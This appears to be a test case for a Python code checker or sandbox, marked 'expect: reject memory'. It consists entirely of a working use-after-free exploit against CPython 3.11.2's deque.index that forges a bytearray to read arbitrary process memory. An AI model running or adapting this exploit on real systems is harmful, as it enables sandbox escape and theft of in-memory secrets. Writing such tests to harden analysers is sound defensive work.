# expect: reject memory
# line: 26
# why: round 70: super().copy() in a deque subclass's pure __eq__ builds type(self)(self), running the subclass's __init__; code run inside deque.index's compare of a tuple held without a reference empties the deque (gh-115243): raw memory under 3.11.2
import collections

N = 25
keep = []
got = []
state = {"armed": False, "payload": b""}


class DQ(collections.deque):
    """a pure __eq__: binds locals only, calls super()'s copy (listed as a read)"""

    def __init__(self, src=None):
        super().__init__()
        if state["armed"] and src is not None:
            state["armed"] = False
            dq.clear()
            keep.append(bytearray(state["payload"]))
        elif src is not None:
            got.append(src)
            raise LookupError("captured")

    def __eq__(self, other):
        twin = super().copy()
        return len(twin) >= 0

    __hash__ = None


def w8(v):
    return v.to_bytes(8, "little")


pad = [tuple([i] * N) for i in range(200)]
dq = DQ()
dq.append(tuple([1, 0] + [0] * (N - 2)))
pad2 = [tuple([i] * N) for i in range(200)]
fake = id(dq[0]) + 48
# the freed tuple's block: its ob_item[1] (block+48) points at a fake DQ at block+64
# (refcnt, type, size, ..., maxlen = -1 at fake+64)
words = [0, 0, 0, 0, 0, 0, fake, 0, 1 << 40, id(DQ), 0, 0, 0, 0, 0, 0, (1 << 64) - 1]
raw = b"".join([w8(x) for x in words])
state["payload"] = raw + bytes(232 - len(raw))
state["armed"] = True
try:
    print("index:", dq.index(tuple([dq, 0] + [0] * (N - 2))))
except (LookupError, RuntimeError, ValueError) as e:
    print(type(e).__name__, e)
print("reclaimed:", len(keep), "captured:", len(got))
B = keep[0]
B[64:120] = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])
mem = got[0]
print(type(mem).__name__, hex(len(mem)), "at", hex(id(mem)), "fake was", hex(fake))
probe = "freed-memory-probe"
print("read through it:", bytes(mem[id(probe) + 48:id(probe) + 48 + len(probe)]))
